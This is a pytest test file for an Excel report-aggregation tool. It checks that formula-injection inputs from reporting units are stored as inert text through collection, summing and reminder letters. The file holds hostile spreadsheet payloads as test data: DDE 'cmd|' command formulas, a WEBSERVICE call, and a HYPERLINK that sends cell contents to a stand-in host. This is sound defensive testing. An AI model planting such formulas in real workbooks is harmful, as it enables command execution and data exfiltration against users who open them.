"""What units write like a formula, from their forms through collection and sums: it ends in the master as text."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from lxml import etree

from de06_xl.incoming.containers.package import unpack
from de06_xl.system import shipped
from de06_xl.workbook import layout
from de06_xl.workbook.file_grid import FileGrid
from de06_xl.workbook.patch.package import sheet_parts
from de06_xl.workbook.reading.book import read_book
from de06_xl.workbook.writing.next_period import unreported_blocks
from tests.support.command_line import de06
from tests.support.filled_forms import filled
from tests.support.sent import DISTRICTS

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
HOSTILE = (
    '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")',
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "{=WEBSERVICE(A1)}",
)
SIGNS = ("HYPERLINK(&quot;http", 'HYPERLINK("http', "cmd|", "WEBSERVICE")
FACTS = {
    "document": "=cmd|'/C calc'!A0",
    "document_date": "15/5/2022",
    "compiled_by": "@SUM(1+1)*cmd|'/C calc'!A0",
    "approved_by": "-2+3+cmd|'/C calc'!A0",
    "phone": "+cmd|'/C calc'!A0",
}
WRITES = {"PVHCC": HOSTILE[:4], "STTTT": HOSTILE[2:]}
"""The offices that write all of them, four a form."""


def as_text(workbook: openpyxl.Workbook) -> None:
    """What begins with "=" is text, as with an apostrophe before it."""
    for sheet in workbook:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value in (*HOSTILE, *FACTS.values()):
                    cell.data_type = "s"


@pytest.fixture
def workbook(tmp_path: Path) -> Path:
    """A master beside which forms lie: figures of three districts, texts of two offices."""
    path = tmp_path / "Sổ.xlsx"
    grid = FileGrid(shipped.path_of(shipped.SAMPLE_WORKBOOK))
    path.write_bytes(grid.copy_with(unreported_blocks(read_book(grid, path.name))))
    book = read_book(FileGrid(path), path.name)
    inbox = tmp_path / "phieu_nhan"
    inbox.mkdir()
    for number, unit in enumerate((*WRITES, *DISTRICTS[:3])):
        owed = {one.code: 5 for one in book.indicators() if unit in DISTRICTS and one.owner == "HUYEN"}
        data = filled(book, unit, owed, facts=FACTS, texts=WRITES.get(unit, ()), change=as_text)
        (inbox / f"=cmd ({number}).xlsx").write_bytes(data)
    return path


def stored(path: Path) -> Iterator[tuple[str, str, etree._Element]]:
    """Every cell of a workbook's sheets: sheet, address, element."""
    parts = unpack(path.read_bytes(), path.name, "sổ Excel .xlsx")
    for sheet, part in sheet_parts(parts).items():
        for cell in etree.fromstring(parts[part]).iter(f"{MAIN}c"):
            yield sheet, cell.get("r"), cell


def formulas(path: Path) -> dict[tuple[str, str], str]:
    return {
        (sheet, at): cell.findtext(f"{MAIN}f") or ""
        for sheet, at, cell in stored(path)
        if len(cell.findall(f"{MAIN}f"))
    }


def texts(path: Path) -> dict[tuple[str, str], tuple[str, str]]:
    """Cells that hold a text, with their style."""
    parts = unpack(path.read_bytes(), path.name, "sổ Excel .xlsx")
    shared = [
        "".join(item.itertext(f"{MAIN}t")) for item in etree.fromstring(parts["xl/sharedStrings.xml"]).iter(f"{MAIN}si")
    ]
    found = {}
    for sheet, at, cell in stored(path):
        if cell.get("t") == "s":
            found[sheet, at] = shared[int(cell.findtext(f"{MAIN}v"))], cell.get("s", "0")
        elif cell.get("t") == "inlineStr":
            found[sheet, at] = "".join(cell.itertext(f"{MAIN}t")), cell.get("s", "0")
    return found


def inert_styles(path: Path) -> set[str]:
    """Styles under which Excel takes what is typed anew as text: format "@", or an apostrophe before it."""
    parts = unpack(path.read_bytes(), path.name, "sổ Excel .xlsx")
    styles = etree.fromstring(parts["xl/styles.xml"])
    as_text = {"49", *(one.get("numFmtId") for one in styles.iter(f"{MAIN}numFmt") if one.get("formatCode") == "@")}
    return {
        str(number)
        for number, xf in enumerate(styles.find(f"{MAIN}cellXfs"))
        if xf.get("numFmtId") in as_text or xf.get("quotePrefix") in ("1", "true")
    }


@pytest.mark.thorough
def test_texts_of_units_stay_texts_through_collection_and_sums(workbook: Path) -> None:
    before = formulas(workbook)
    assert de06("collect", workbook).status == 0
    for _ in range(2):
        assert de06("aggregate", workbook).status == 1, "sums lack units"
    book = read_book(FileGrid(workbook), workbook.name, submissions=True)
    paragraphs = [one for section in book.sections for one in section.paragraphs if one.owner in WRITES]
    assert {(one.owner, one.text) for one in paragraphs} == {(unit, text) for unit in WRITES for text in WRITES[unit]}
    after = formulas(workbook)
    new = {place: text for place, text in after.items() if before.get(place) != text}
    assert new, "sums have our formula"
    assert {re.sub(r"\d+", "", text) for text in new.values()} == {'IF(ISNUMBER(J),J,"")'}
    assert not [text for text in after.values() if any(sign in text for sign in SIGNS)]
    hostile = {place: style for place, (text, style) in texts(workbook).items() if text in (*HOSTILE, *FACTS.values())}
    assert {sheet for sheet, _ in hostile} >= {paragraphs[0].row.sheet, layout.RECEIVED.sheet, layout.SUBMITTED.sheet}
    assert set(hostile.values()) <= inert_styles(workbook)
    named = {place for place, (text, _) in texts(workbook).items() if "=cmd (" in text}
    assert {sheet for sheet, _ in named} >= {layout.RECEIVED.sheet, layout.SUBMITTED.sheet, layout.SOURCES.sheet}
    assert not named & set(after)
    assert {texts(workbook)[place][1] for place in named} <= inert_styles(workbook)


@pytest.mark.thorough
def test_what_the_letters_and_the_overview_quote_is_text_too(workbook: Path) -> None:
    de06("collect", workbook)
    assert de06("remind", workbook).status == 0
    overview = {text: style for (sheet, _), (text, style) in texts(workbook).items() if sheet == layout.OVERVIEW_SHEET}
    reported = {style for text, style in overview.items() if "Còn thiếu" in text}
    assert reported
    assert reported <= inert_styles(workbook)
